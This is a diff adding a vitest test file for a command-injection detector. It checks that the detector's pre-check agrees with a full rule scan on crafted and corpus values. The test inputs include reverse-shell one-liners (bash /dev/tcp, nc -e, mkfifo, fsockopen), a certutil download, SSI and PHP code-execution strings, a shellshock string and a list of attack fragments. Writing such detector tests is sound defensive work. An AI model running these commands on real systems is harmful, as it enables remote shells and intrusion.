@@ -1,0 +1,94 @@
+import { existsSync, readdirSync, readFileSync } from 'node:fs';
+import { join, resolve } from 'node:path';
+import { describe, expect, it } from 'vitest';
+import { detectCmdi, detectCmdiReadingAll } from '../../../src/policies/inspection/scan/cmdi.js';
+import { triggerMask } from '../../../src/policies/inspection/scan/triggers.js';
+import { seededFraction } from '../../support/random.js';
+
+const corpusDir = resolve(import.meta.dirname, '../../../../shared/corpus');
+/** Every trigger: each rule reads the value whatever its triggers say. */
+const ALL = (1 << 27) - 1;
+
+describe('detectCmdi on chat-length values that hold what a rule read anywhere needs', () => {
+  it('reads the reverse shells, SSI, PHP and code execution after prose', () => {
+    expect(detectCmdi('see this: bash -i >& /dev/tcp/10.0.0.1/8080 0>&1', ALL)).toBe('cmdi.reverse-shell');
+    expect(detectCmdi('see this: rm /tmp/f;mkfifo /tmp/f', ALL)).toBe('cmdi.reverse-shell');
+    expect(detectCmdi('see this: nc -e /bin/sh 10.0.0.1 80', ALL)).toBe('cmdi.reverse-shell');
+    expect(detectCmdi('see this: certutil -urlcache -f http://x/a.exe', ALL)).toBe('cmdi.reverse-shell');
+    expect(detectCmdi('see this: $sock=fsockopen("10.0.0.1",80)', ALL)).toBe('cmdi.reverse-shell');
+    expect(detectCmdi('see this: <!--#exec cmd="ls" -->', ALL)).toBe('cmdi.ssi');
+    expect(detectCmdi('see this: {${phpinfo()}}', ALL)).toBe('cmdi.code-exec');
+    expect(detectCmdi('see this: () { :;}; echo', ALL)).toBe('cmdi.shellshock');
+    expect(detectCmdi('see this: <?php eval($x) ?>', ALL)).toBe('cmdi.code-exec');
+  });
+
+  it('reads a call with a string or request input after its bracket, or phpinfo', () => {
+    expect(detectCmdi("see this: system('id')", ALL)).toBe('cmdi.code-exec');
+    expect(detectCmdi('see this: exec ( "id")', ALL)).toBe('cmdi.code-exec');
+    expect(detectCmdi('see this: os.system($_get[1])', ALL)).toBe('cmdi.code-exec');
+    expect(detectCmdi('see this: phpinfo ()', ALL)).toBe('cmdi.code-exec');
+    expect(detectCmdi('see this: system(id)', ALL)).toBeNull();
+    expect(detectCmdi('see this (attached file: x.pdf)', ALL)).toBeNull();
+  });
+});
+
+/**
+ * The pre-check against the rules it stands for: values read with it and with every rule run (`detectCmdiReadingAll`)
+ * get the same verdict, with every trigger and with their own. The values are made to reach the pre-check's edges
+ * (prose, then the literals the rules read anywhere, near misses of them and the punctuation around them), plus
+ * every line of the corpus. A rule that changes without the pre-check fails here.
+ */
+describe('the command-injection pre-check agrees with reading every value in full', () => {
+  const PIECES = [
+    '/dev/tcp/1.2.3.4/80', '/dev/udp/', '/dev/', 'mkfifo /tmp/f', '/tmp/', 'bitsadmin /transfer', '/transfer', '/tr',
+    '-e /bin/sh', '-e cmd', '-e ', 'certutil -urlcache', '-urlcache', 'fsockopen(', 'pty.spawn(', 'downloadstring(',
+    'socket(s,pf_inet', '(s,pf_inet', '<!--#exec cmd="id"', '<!--#include', '<!--', '<?php system($x)', '<?=', '<?',
+    '{${', '{$_get[', '{$_post[', '{$', '${@', '@{[', '>&', 'bash -i', '() { :;};', '()  {', '() ', 'system(',
+    'exec(', 'eval(', 'passthru(', 'shell_exec(', 'os.system(', 'subprocess.call(', 'runtime.getruntime().exec(',
+    'child_process.exec(', 'execsync(', '%x(', 'phpinfo(', 'phpinfo ', 'phpversion(', 'php', 'include(', '$_get',
+    '$_', "'id'", '"id"', '`id`', 'id', 'whoami', 'cat /etc/passwd', 'ls -la', 'echo hi', 'the', 'a', 'see', 'file',
+    'x.pdf', 'http://a.b/c?d=e&f=g', '&#39;', 'and',
+  ];
+  const PUNCTUATION = [
+    ';', ' ; ', '|', '||', '&', ' & ', '&&', '\n', '\r', '(', ')', '()', '{', '}', '[', ']', '<', '>', '?', '!', '$',
+    '@', "'", '"', '`', '-', '/', '\\', '=', ':', ',', '.', ' ', ' ', '\t', '#', '%',
+  ];
+  const STARTS = ['', '', 'see this: ', 'a ', "it's ", '"x" ', 'x;', ' & ', 'http://a.b/c?d=e&f ', '\n'];
+  const bothWays = (values: Iterable<string>): string[] => {
+    const differing: string[] = [];
+    for (const v of values) {
+      for (const mask of [ALL, triggerMask(v)]) {
+        if (detectCmdi(v, mask) !== detectCmdiReadingAll(v, mask)) differing.push(`${mask} ${JSON.stringify(v)}`);
+      }
+    }
+    return differing;
+  };
+
+  it('on 20,000 values built to reach its edges', () => {
+    const next = seededFraction(20_251_202);
+    const pick = <T>(list: readonly T[]): T => list[Math.floor(next() * list.length)] as T;
+    const values: string[] = [];
+    let found = 0;
+    for (let i = 0; i < 20_000; i++) {
+      let v = pick(STARTS);
+      const parts = 1 + Math.floor(next() * next() * 12);
+      for (let k = 0; k < parts; k++) v += next() < 0.5 ? pick(PIECES) + (next() < 0.5 ? ' ' : '') : pick(PUNCTUATION);
+      values.push(v);
+      if (detectCmdiReadingAll(v, ALL) !== null) found++;
+    }
+    expect(bothWays(values)).toEqual([]);
+    // (the values reach the rules: a good share is found, and so the two readings have something to disagree on)
+    expect(found).toBeGreaterThan(2_000);
+  });
+
+  it.skipIf(!existsSync(corpusDir))('on every corpus line, lower-cased', () => {
+    const lines = readdirSync(corpusDir, { withFileTypes: true })
+      .filter((d) => d.isDirectory())
+      .flatMap((d) => readdirSync(join(corpusDir, d.name)).map((f) => join(corpusDir, d.name, f)))
+      .flatMap((file) => readFileSync(file, 'utf8').split('\n'))
+      .filter((line) => line.length > 0 && line.length < 1024)
+      .map((line) => line.toLowerCase());
+    expect(lines.length).toBeGreaterThan(10_000);
+    expect(bothWays(lines)).toEqual([]);
+  });
+});
